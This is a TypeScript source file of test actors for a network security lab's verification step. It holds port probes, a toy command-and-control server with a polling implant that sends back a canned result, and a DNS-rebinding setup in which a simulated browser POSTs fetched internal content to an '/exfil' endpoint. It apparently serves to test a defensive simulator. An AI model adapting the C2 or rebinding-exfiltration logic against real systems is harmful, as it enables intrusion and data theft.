// The actors of `lab verify`, as one small program run inside a node's namespace (`ip netns exec NS node --import
// tsx actor.ts SUB-COMMAND ...`, or a bundled lab-actor.js), each printing its result as JSON on stdout:
//   probe            reads [{address, port, proto}] on stdin, probes them all at once, prints [ProbeResult]
//   tcp-connect HOST PORT [--from-port P] [--send TEXT] [--wait MS]      one ProbeResult
//   udp-send HOST PORT [--from-port P] [--send TEXT] [--wait MS]         one ProbeResult
//   c2-server PORT   prints the ready line, then one JSON line per poll and per command output received
//   poll-c2 HOST PORT --name NAME [--polls N] [--interval MS]            the implant: a C2Poll summary
//   dns-server PORT --zones JSON   Mallory's authoritative DNS for rebinding (ScriptedZones): prints the ready line,
//                    then one DnsServerEvent per query
//   resolve SERVER NAME... [--type A|AAAA] [--wait MS]                   [DnsLookup], one per name
//   rebind-browser RESOLVER NAME PORT [--landing-port P] [--rebind-wait MS]   the victim's browser: a RebindVisit
// Probes answer as the simulator's (attacks/inbound-scan.ts startProbe): a TCP connect that sends a line once
// established, a UDP datagram from a connected socket (so an ICMP port unreachable surfaces as ECONNREFUSED).

import { randomInt } from "node:crypto";
import { createSocket } from "node:dgram";
import { connect, createServer } from "node:net";
import type { Socket } from "node:net";
import { resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { formatIpv4, formatIpv6, parseIp } from "../wire/address.js";
import * as dns from "../wire/dns.js";

/** The line c2-server prints once it listens. */
export const ACTOR_READY = "mallory-actor-ready";
/** As the simulator's probe waits (attacks/inbound-scan.ts PROBE_WAIT_MS). */
export const DEFAULT_WAIT_MS = 1500;
export const PROBE_PAYLOAD = "mallory probe\n";
export const C2_COMMAND = "CMD id\n";
const POLL = "POLL";
const RESULT = "RESULT";
/** How long a probe keeps reading after its first reply bytes. */
const LINGER_MS = 150;

export type ProbeAnswer = "session" | "udp-reply" | "reset" | "unreachable" | "silent";

export interface ProbeRequest {
  readonly address: string;
  readonly port: number;
  readonly proto: "tcp" | "udp";
  readonly fromPort?: number;
  readonly send?: string;
  readonly waitMs?: number;
}

export interface ProbeResult {
  readonly address: string;
  readonly port: number;
  readonly proto: "tcp" | "udp";
  readonly answer: ProbeAnswer;
  readonly bytesBack: number;
  readonly firstReply: string | null;
  readonly localPort: number;
  /** The socket error, when one ended the probe. */
  readonly error?: string;
}

export interface C2Poll {
  readonly polls: number;
  readonly commands: number;
  readonly resultsSent: number;
}

/** One line of c2-server's output. */
export type C2Event =
  | { readonly event: "poll"; readonly peer: string; readonly peerPort: number; readonly text: string }
  | { readonly event: "result"; readonly peer: string; readonly peerPort: number; readonly text: string };

/** Whatever an actor printed: a single JSON value (parsed) or an error. */
export type ActorResult =
  { readonly ok: true; readonly value: unknown } | { readonly ok: false; readonly message: string };

const REFUSED = new Set(["ECONNREFUSED", "ECONNRESET"]);
const UNREACHABLE = new Set(["EHOSTUNREACH", "ENETUNREACH", "EACCES", "EPERM"]);

function answerOfError(code: string | undefined): ProbeAnswer {
  if (code !== undefined && REFUSED.has(code)) return "reset";
  if (code !== undefined && UNREACHABLE.has(code)) return "unreachable";
  return "silent";
}

function errorCode(e: unknown): string | undefined {
  return typeof e === "object" && e !== null && "code" in e && typeof e.code === "string" ? e.code : undefined;
}

export function probeTcp(r: ProbeRequest): Promise<ProbeResult> {
  return new Promise((done) => {
    let answer: ProbeAnswer = "silent";
    let bytesBack = 0;
    let firstReply: string | null = null;
    let localPort = 0;
    let error: string | undefined;
    let finished = false;
    const socket: Socket = connect({
      host: r.address,
      port: r.port,
      ...(r.fromPort !== undefined ? { localPort: r.fromPort } : {}),
    });
    const finish = (): void => {
      if (finished) return;
      finished = true;
      clearTimeout(timer);
      socket.destroy();
      done({
        address: r.address,
        port: r.port,
        proto: "tcp",
        answer,
        bytesBack,
        firstReply,
        localPort,
        ...(error !== undefined ? { error } : {}),
      });
    };
    const timer = setTimeout(finish, r.waitMs ?? DEFAULT_WAIT_MS);
    socket.on("connect", () => {
      answer = "session";
      localPort = socket.localPort ?? 0;
      socket.write(r.send ?? PROBE_PAYLOAD);
    });
    socket.on("data", (d: Buffer) => {
      bytesBack += d.length;
      firstReply ??= d.toString("latin1");
      setTimeout(finish, LINGER_MS);
    });
    socket.on("error", (e) => {
      error = errorCode(e) ?? e.message;
      if (answer !== "session") answer = answerOfError(errorCode(e));
      finish();
    });
    socket.on("close", () => {
      if (answer === "session") setTimeout(finish, LINGER_MS);
    });
  });
}

export function probeUdp(r: ProbeRequest): Promise<ProbeResult> {
  return new Promise((done) => {
    const socket = createSocket(r.address.includes(":") ? "udp6" : "udp4");
    let answer: ProbeAnswer = "silent";
    let bytesBack = 0;
    let firstReply: string | null = null;
    let localPort = 0;
    let error: string | undefined;
    let finished = false;
    const finish = (): void => {
      if (finished) return;
      finished = true;
      clearTimeout(timer);
      socket.close();
      done({
        address: r.address,
        port: r.port,
        proto: "udp",
        answer,
        bytesBack,
        firstReply,
        localPort,
        ...(error !== undefined ? { error } : {}),
      });
    };
    const timer = setTimeout(finish, r.waitMs ?? DEFAULT_WAIT_MS);
    socket.on("message", (m: Buffer) => {
      answer = "udp-reply";
      bytesBack += m.length;
      firstReply ??= m.toString("latin1");
      finish();
    });
    socket.on("error", (e) => {
      error = errorCode(e) ?? e.message;
      if (answer === "silent") answer = answerOfError(errorCode(e));
      finish();
    });
    socket.bind(r.fromPort ?? 0, () => {
      localPort = socket.address().port;
      socket.connect(r.port, r.address, () => {
        socket.send(r.send ?? PROBE_PAYLOAD);
      });
    });
  });
}

export function probe(r: ProbeRequest): Promise<ProbeResult> {
  return r.proto === "tcp" ? probeTcp(r) : probeUdp(r);
}

/** Mallory's C2 server: answers a POLL with a command and reports every poll and command output. */
export function startC2Server(
  port: number,
  onEvent: (e: C2Event) => void,
): Promise<{ close(): Promise<void>; port: number }> {
  const open = new Set<Socket>();
  const server = createServer((conn) => {
    open.add(conn);
    const peer = conn.remoteAddress ?? "";
    const peerPort = conn.remotePort ?? 0;
    conn.on("error", () => undefined);
    conn.on("close", () => open.delete(conn));
    conn.on("data", (d: Buffer) => {
      const text = d.toString("utf8");
      if (text.startsWith(POLL)) {
        onEvent({ event: "poll", peer, peerPort, text: text.trim() });
        conn.write(C2_COMMAND);
      } else if (text.startsWith(RESULT)) {
        onEvent({ event: "result", peer, peerPort, text: text.slice(RESULT.length).trim() });
      }
    });
  });
  return new Promise((done, fail) => {
    server.once("error", fail);
    server.listen({ port, host: "::", ipv6Only: false }, () => {
      const address = server.address();
      done({
        port: typeof address === "object" && address !== null ? address.port : port,
        close: () =>
          new Promise<void>((closed) => {
            for (const c of open) c.destroy();
            server.close(() => {
              closed();
            });
          }),
      });
    });
  });
}

/** The implant: polls up to `polls` times, `intervalMs` apart, until one poll's command output went back. */
export async function pollC2(
  host: string,
  port: number,
  name: string,
  polls: number,
  intervalMs: number,
): Promise<C2Poll> {
  let made = 0;
  let commands = 0;
  let resultsSent = 0;
  for (let i = 0; i < polls && resultsSent === 0; i++) {
    if (i > 0) await new Promise((d) => setTimeout(d, intervalMs));
    made++;
    const got = await new Promise<boolean>((done) => {
      const s = connect({ host, port });
      const timer = setTimeout(() => {
        s.destroy();
        done(false);
      }, intervalMs);
      s.on("connect", () => s.write(`${POLL} ${name}\n`));
      s.on("data", (d: Buffer) => {
        if (d.toString("utf8") !== C2_COMMAND) return;
        commands++;
        s.end(`${RESULT} uid=1000(user) gid=1000(user) host=${name}\n`, () => {
          clearTimeout(timer);
          done(true);
        });
      });
      s.on("error", () => {
        clearTimeout(timer);
        done(false);
      });
    });
    if (got) resultsSent++;
  }
  return { polls: made, commands, resultsSent };
}

// ---------------------------------------------------------------------------------------------------------------
// DNS rebinding: Mallory's authoritative server and the victim's browser.

/** One scripted answer of Mallory's zone (sim/services/authoritative-dns.ts ScriptedAnswer). */
export interface ScriptedStep {
  readonly address: string;
  readonly ttl: number;
}

/** Name → answers in query order, the last repeating; each name is also its zone's apex. */
export type ScriptedZones = Readonly<Record<string, readonly ScriptedStep[]>>;

/** One line of dns-server's output: a query and the addresses it was answered with. */
export interface DnsServerEvent {
  readonly event: "query";
  readonly peer: string;
  readonly peerPort: number;
  readonly name: string;
  readonly type: number;
  readonly rcode: number;
  readonly addresses: readonly string[];
}

/** What a lookup got: no answer at all (`rcode` null), or the rcode and the A records' addresses. */
export interface DnsLookup {
  readonly server: string;
  readonly name: string;
  readonly rcode: number | null;
  readonly addresses: readonly string[];
  readonly ttls: readonly number[];
  readonly error?: string;
}

/** The browser's visit: the landing lookup and fetch, the script's second lookup and its fetch of the rebound name. */
export interface RebindVisit {
  readonly first: DnsLookup;
  /** Null when the first lookup gave no address (no page, no script). */
  readonly landing: ProbeResult | null;
  readonly second: DnsLookup | null;
  /** Null when the landing page did not load or the second lookup gave no address. */
  readonly rebound: ProbeResult | null;
  /** The rebound answer posted back to the landing address; null when there was nothing to post. */
  readonly exfil: ProbeResult | null;
}

const DNS_PORT = 53;
const DNS_WAIT_MS = 2000;
const DNS_ID_SPACE = 0x10000;
export const EXFIL_REQUEST_LINE = "POST /exfil HTTP/1.1";

/** A status line (RFC 9112 §4): what a browser's fetch accepts as an answer. */
export function isHttpResponse(text: string): boolean {
  return /^HTTP\/\d\.\d \d{3}/.test(text);
}

function canonicalName(name: string): string {
  return name.toLowerCase().replace(/\.$/, "");
}

/**
 * The scripted authoritative server's answer to one query, as sim/services/authoritative-dns.ts gives it: AA, no
 * RA; REFUSED outside every zone, NXDOMAIN for an unknown name inside one (RFC 1035 §4.1.1), NODATA for a type
 * without data (RFC 2308 §2.2); A and AAAA follow the script, one step per query of that name and type. `steps`
 * counts the queries so far. Null for anything that is not a one-question query.
 */
export function scriptedAnswer(
  query: Uint8Array,
  zones: ScriptedZones,
  steps: Map<string, number>,
): {
  readonly reply: Uint8Array;
  readonly name: string;
  readonly type: number;
  readonly rcode: number;
  readonly addresses: string[];
} | null {
  const q = dns.parse(query);
  if (!q.ok || q.value.qr || q.value.questions.length !== 1) return null;
  const question = q.value.questions[0];
  const name = canonicalName(question.name);
  const apexes = Object.keys(zones).map(canonicalName);
  const inZone = apexes.some((z) => name === z || name.endsWith(`.${z}`));
  const script = Object.entries(zones).find(([z]) => canonicalName(z) === name)?.[1];
  let rcode: number = dns.DnsRcode.NOERROR;
  const records: dns.DnsRecord[] = [];
  const addresses: string[] = [];
  if (!inZone) rcode = dns.DnsRcode.REFUSED;
  else if (script === undefined || script.length === 0) rcode = dns.DnsRcode.NXDOMAIN;
  else if (question.type === dns.DnsType.A || question.type === dns.DnsType.AAAA) {
    const key = `${name}/${question.type}`;
    const n = steps.get(key) ?? 0;
    steps.set(key, n + 1);
    const step = script[Math.min(n, script.length - 1)];
    const ip = parseIp(step.address);
    if (ip?.family === 4 && question.type === dns.DnsType.A) {
      records.push(dns.aRecord(question.name, ip.v4, step.ttl));
      addresses.push(step.address);
    }
    if (ip?.family === 6 && question.type === dns.DnsType.AAAA) {
      records.push(dns.aaaaRecord(question.name, ip.v6, step.ttl));
      addresses.push(step.address);
    }
  }
  const r = dns.answer(q.value, records, { aa: inZone, ra: false, rcode });
  return r.ok ? { reply: dns.emit(r.value), name, type: question.type, rcode, addresses } : null;
}

/** Mallory's authoritative server on UDP `port`; every query answered is reported through `onEvent`. */
export function startDnsServer(
  port: number,
  zones: ScriptedZones,
  onEvent: (e: DnsServerEvent) => void,
): Promise<{ close(): Promise<void> }> {
  const steps = new Map<string, number>();
  const socket = createSocket({ type: "udp4" });
  socket.on("message", (msg: Buffer, rinfo) => {
    const a = scriptedAnswer(msg, zones, steps);
    if (a === null) return;
    onEvent({
      event: "query",
      peer: rinfo.address,
      peerPort: rinfo.port,
      name: a.name,
      type: a.type,
      rcode: a.rcode,
      addresses: a.addresses,
    });
    socket.send(a.reply, rinfo.port, rinfo.address);
  });
  return new Promise((done, fail) => {
    socket.once("error", fail);
    socket.bind(port, () => {
      socket.off("error", fail);
      done({
        close: () =>
          new Promise<void>((closed) => {
            socket.close(() => {
              closed();
            });
          }),
      });
    });
  });
}

/** The record types `resolve` asks for. */
export type LookupType = "A" | "AAAA";

/**
 * One lookup sent to `server` on port 53 (recursion desired, as a stub resolver asks); the first reply with the
 * query's id is taken.
 */
export function lookup(server: string, name: string, type: LookupType = "A", waitMs = DNS_WAIT_MS): Promise<DnsLookup> {
  return new Promise((done) => {
    const id = randomInt(DNS_ID_SPACE);
    const q = dns.query(id, name, type === "A" ? dns.DnsType.A : dns.DnsType.AAAA);
    if (!q.ok) {
      done({ server, name, rcode: null, addresses: [], ttls: [], error: q.error.message });
      return;
    }
    const socket = createSocket(server.includes(":") ? "udp6" : "udp4");
    let finished = false;
    const finish = (r: DnsLookup): void => {
      if (finished) return;
      finished = true;
      clearTimeout(timer);
      socket.close();
      done(r);
    };
    const timer = setTimeout(() => {
      finish({ server, name, rcode: null, addresses: [], ttls: [], error: "no answer" });
    }, waitMs);
    socket.on("message", (m: Buffer) => {
      const r = dns.parse(m);
      if (!r.ok || !r.value.qr || r.value.id !== id) return;
      const found = r.value.answers.flatMap((rr) =>
        rr.data.kind === "a"
          ? [{ address: formatIpv4(rr.data.address), ttl: rr.ttl }]
          : rr.data.kind === "aaaa"
            ? [{ address: formatIpv6(rr.data.address), ttl: rr.ttl }]
            : [],
      );
      finish({
        server,
        name,
        rcode: r.value.rcode,
        addresses: found.map((f) => f.address),
        ttls: found.map((f) => f.ttl),
      });
    });
    socket.on("error", (e) => {
      finish({ server, name, rcode: null, addresses: [], ttls: [], error: errorCode(e) ?? e.message });
    });
    socket.send(dns.emit(q.value), DNS_PORT, server);
  });
}

/**
 * The victim's browser on a rebinding page (attacks/dns-rebinding.ts): looks the name up and loads the landing page
 * from the first address; after `rebindWaitMs` (past the TTL) the page's script asks for `http://NAME:PORT/`, whose
 * lookup now gives the second address, fetches it and posts what came back to the landing address.
 */
export async function rebindVisit(
  resolver: string,
  name: string,
  port: number,
  landingPort: number,
  rebindWaitMs: number,
): Promise<RebindVisit> {
  const first = await lookup(resolver, name);
  const landingAddress = first.addresses.at(0);
  const landing =
    landingAddress === undefined
      ? null
      : await probeTcp({
          address: landingAddress,
          port: landingPort,
          proto: "tcp",
          send: `GET / HTTP/1.1\r\nHost: ${name}\r\n\r\n`,
        });
  await new Promise((d) => setTimeout(d, rebindWaitMs));
  // The page's script asks again even when the page never loaded, so the run shows what the resolver would give it.
  const second = await lookup(resolver, name);
  const loaded = landing !== null && landing.answer === "session";
  const reboundAddress = second.addresses.at(0);
  const rebound =
    !loaded || reboundAddress === undefined
      ? null
      : await probeTcp({
          address: reboundAddress,
          port,
          proto: "tcp",
          send: `GET / HTTP/1.1\r\nHost: ${name}:${port}\r\n\r\n`,
        });
  const body = rebound?.firstReply ?? null;
  // Fetch hands the script only an HTTP response; anything else is a network error (sim/services/browser.ts).
  const exfil =
    landingAddress === undefined || body === null || !isHttpResponse(body)
      ? null
      : await probeTcp({
          address: landingAddress,
          port: landingPort,
          proto: "tcp",
          send: `${EXFIL_REQUEST_LINE}\r\nHost: ${landingAddress}\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
        });
  return { first, landing, second, rebound, exfil };
}

// ---------------------------------------------------------------------------------------------------------------
// Command line.

/** `--name value` options after the positional arguments. */
export function parseActorArgs(argv: readonly string[]): { positional: string[]; options: Map<string, string> } {
  const positional: string[] = [];
  const options = new Map<string, string>();
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i];
    if (a.startsWith("--") && i + 1 < argv.length) {
      options.set(a.slice(2), argv[i + 1]);
      i++;
    } else positional.push(a);
  }
  return { positional, options };
}

function portOf(text: string | undefined): number | null {
  if (text === undefined || !/^\d{1,5}$/.test(text)) return null;
  const n = Number(text);
  return n >= 0 && n <= 65535 ? n : null;
}

/** A long-running sub-command runs until it is told to stop. */
function untilSignalled(): Promise<void> {
  return new Promise<void>((stop) => {
    process.once("SIGTERM", () => {
      stop();
    });
    process.once("SIGINT", () => {
      stop();
    });
  });
}

function readStdin(): Promise<string> {
  return new Promise((done) => {
    let text = "";
    process.stdin.setEncoding("utf8");
    process.stdin.on("data", (d: string) => (text += d));
    process.stdin.on("end", () => {
      done(text);
    });
  });
}

const USAGE =
  "usage: actor probe | tcp-connect|udp-send HOST PORT [opts] | c2-server PORT | poll-c2 HOST PORT --name N | " +
  "dns-server PORT --zones JSON | resolve SERVER NAME... | rebind-browser RESOLVER NAME PORT";

/** The --zones option: a JSON object of name → [{address, ttl}], every address valid. */
export function parseZones(text: string | undefined): ScriptedZones | null {
  if (text === undefined) return null;
  let parsed: unknown;
  try {
    parsed = JSON.parse(text);
  } catch {
    return null;
  }
  if (typeof parsed !== "object" || parsed === null || Array.isArray(parsed)) return null;
  const zones: Record<string, ScriptedStep[]> = {};
  for (const [name, steps] of Object.entries(parsed)) {
    if (!Array.isArray(steps)) return null;
    const out: ScriptedStep[] = [];
    for (const st of steps as unknown[]) {
      if (typeof st !== "object" || st === null) return null;
      const { address, ttl } = st as { address?: unknown; ttl?: unknown };
      if (typeof address !== "string" || parseIp(address) === null) return null;
      if (typeof ttl !== "number" || !Number.isInteger(ttl) || ttl < 0 || ttl > 0xffffffff) return null;
      out.push({ address, ttl });
    }
    zones[name] = out;
  }
  return zones;
}

/** Runs one sub-command; the value is what it prints as JSON (c2-server prints as it goes and returns on signal). */
export async function runActor(
  argv: readonly string[],
  print: (line: string) => void,
  warn: (line: string) => void = (line) => process.stderr.write(`${line}\n`),
): Promise<number> {
  const [sub, ...rest] = argv;
  const { positional, options } = parseActorArgs(rest);
  const waitMs = portOf(options.get("wait")) ?? DEFAULT_WAIT_MS;
  const fromPort = portOf(options.get("from-port"));
  switch (sub) {
    case "probe": {
      const requests = JSON.parse(await readStdin()) as ProbeRequest[];
      print(JSON.stringify(await Promise.all(requests.map(probe))));
      return 0;
    }
    case "tcp-connect":
    case "udp-send": {
      const host = positional.at(0);
      const port = portOf(positional.at(1));
      if (host === undefined || port === null) break;
      const send = options.get("send");
      const r = await probe({
        address: host,
        port,
        proto: sub === "tcp-connect" ? "tcp" : "udp",
        waitMs,
        ...(fromPort !== null ? { fromPort } : {}),
        ...(send !== undefined ? { send } : {}),
      });
      print(JSON.stringify(r));
      return 0;
    }
    case "c2-server": {
      const port = portOf(positional.at(0));
      if (port === null) break;
      const server = await startC2Server(port, (e) => {
        print(JSON.stringify(e));
      });
      print(ACTOR_READY);
      await new Promise<void>((stop) => {
        process.once("SIGTERM", () => {
          stop();
        });
        process.once("SIGINT", () => {
          stop();
        });
      });
      await server.close();
      return 0;
    }
    case "poll-c2": {
      const host = positional.at(0);
      const port = portOf(positional.at(1));
      const name = options.get("name");
      if (host === undefined || port === null || name === undefined) break;
      const polls = Number(options.get("polls") ?? "3");
      const interval = Number(options.get("interval") ?? "2000");
      print(JSON.stringify(await pollC2(host, port, name, polls, interval)));
      return 0;
    }
    case "dns-server": {
      const port = portOf(positional.at(0));
      const zones = parseZones(options.get("zones"));
      if (port === null || zones === null) break;
      const server = await startDnsServer(port, zones, (e) => {
        print(JSON.stringify(e));
      });
      print(ACTOR_READY);
      await untilSignalled();
      await server.close();
      return 0;
    }
    case "resolve": {
      const server = positional.at(0);
      const names = positional.slice(1);
      const type = options.get("type") ?? "A";
      if (server === undefined || names.length === 0 || (type !== "A" && type !== "AAAA")) break;
      const wait = portOf(options.get("wait")) ?? DNS_WAIT_MS;
      // One after another: each lookup's log line and upstream query stay in order.
      const results: DnsLookup[] = [];
      for (const name of names) results.push(await lookup(server, name, type, wait));
      print(JSON.stringify(results));
      return 0;
    }
    case "rebind-browser": {
      const resolver = positional.at(0);
      const name = positional.at(1);
      const port = portOf(positional.at(2));
      const landingPort = portOf(options.get("landing-port") ?? "80");
      const rebindWait = Number(options.get("rebind-wait") ?? "1500");
      if (resolver === undefined || name === undefined || port === null || landingPort === null) break;
      if (!Number.isInteger(rebindWait) || rebindWait < 0) break;
      print(JSON.stringify(await rebindVisit(resolver, name, port, landingPort, rebindWait)));
      return 0;
    }
    default:
      break;
  }
  warn(USAGE);
  return 2;
}

// An entry point only when run as actor.ts or lab-actor.js, never from inside a bundle that imports this module.
const entry = process.argv[1] ?? "";
if (/(^|\/)(actor\.ts|lab-actor\.js)$/.test(entry) && resolve(entry) === fileURLToPath(import.meta.url)) {
  runActor(process.argv.slice(2), (line) => process.stdout.write(`${line}\n`)).then(
    (code) => process.exit(code),
    (e: unknown) => {
      process.stderr.write(`actor: ${e instanceof Error ? e.message : String(e)}\n`);
      process.exit(1);
    },
  );
}
